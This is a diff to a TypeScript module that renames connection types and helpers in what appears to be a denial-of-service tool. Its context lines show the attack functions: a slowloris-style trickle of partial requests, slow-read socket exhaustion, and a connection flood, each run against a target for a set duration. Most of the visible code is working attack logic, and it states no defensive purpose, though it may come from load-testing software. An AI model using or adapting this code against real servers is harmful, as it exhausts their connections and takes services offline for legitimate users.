@@ -1,7 +1,7 @@
 import { randomBytes } from 'node:crypto';
 import { setTimeout as pause } from 'node:timers/promises';
 import { gzipSync } from 'node:zlib';
-import { type Line, openLines, type Target } from './lines.ts';
+import { type Connection, openConnections, type Target } from './connections.ts';
 
 /** The addresses of the greatest files that a page may ask for. */
 export type Greatest = { readonly script: string; readonly picture: string };
@@ -28,11 +28,11 @@ const fewAsks = 15;
 function unread(count: number, words: (greatest: Greatest) => string): Attack['run'] {
   return async (target, seconds, greatest) => {
     const until = performance.now() + seconds * 1000;
-    let lines: Line[] = [];
+    let lines: Connection[] = [];
     let opened = 0;
     while (performance.now() < until) {
       lines = lines.filter(({ isOpen }) => isOpen());
-      const fresh = await openLines(target, Math.min(count, count - lines.length));
+      const fresh = await openConnections(target, Math.min(count, count - lines.length));
       for (const { socket } of fresh) socket.pause().write(words(greatest));
       lines.push(...fresh);
       opened += fresh.length;
@@ -47,12 +47,12 @@ function unread(count: number, words: (greatest: Greatest) => string): Attack['r
 function slowly(count: number, beginning: string, rest: string): Attack['run'] {
   return async (target, seconds) => {
     const until = performance.now() + seconds * 1000;
-    let lines: Line[] = [];
+    let lines: Connection[] = [];
     let opened = 0;
     for (let second = 0; performance.now() < until; second++) {
       lines = lines.filter(({ isOpen }) => isOpen());
       for (const { socket } of lines) socket.write(rest[second % rest.length] ?? 'x');
-      const fresh = await openLines(target, count - lines.length);
+      const fresh = await openConnections(target, count - lines.length);
       for (const { socket } of fresh) socket.write(beginning);
       lines.push(...fresh);
       opened += fresh.length;
@@ -67,7 +67,7 @@ function slowly(count: number, beginning: string, rest: string): Attack['run'] {
 function flood(count: number, words: () => string | Buffer): Attack['run'] {
   return async (target, seconds) => {
     const until = performance.now() + seconds * 1000;
-    const lines = await openLines(target, count);
+    const lines = await openConnections(target, count);
     await Promise.all(
       lines.map(async ({ socket, isOpen }) => {
         while (isOpen() && performance.now() < until) {
@@ -88,7 +88,7 @@ function flood(count: number, words: () => string | Buffer): Attack['run'] {
 function readSlowly(count: number, words: (greatest: Greatest) => string): Attack['run'] {
   return async (target, seconds, greatest) => {
     const until = performance.now() + seconds * 1000;
-    const lines = await openLines(target, count);
+    const lines = await openConnections(target, count);
     for (const { socket } of lines) socket.pause().write(words(greatest));
     while (performance.now() < until) {
       for (const { socket } of lines) socket.read(1);
@@ -99,7 +99,7 @@ function readSlowly(count: number, words: (greatest: Greatest) => string): Attac
   };
 }
 
-const letGo = (lines: readonly Line[]): void => {
+const letGo = (lines: readonly Connection[]): void => {
   for (const { socket } of lines) socket.destroy();
 };
 
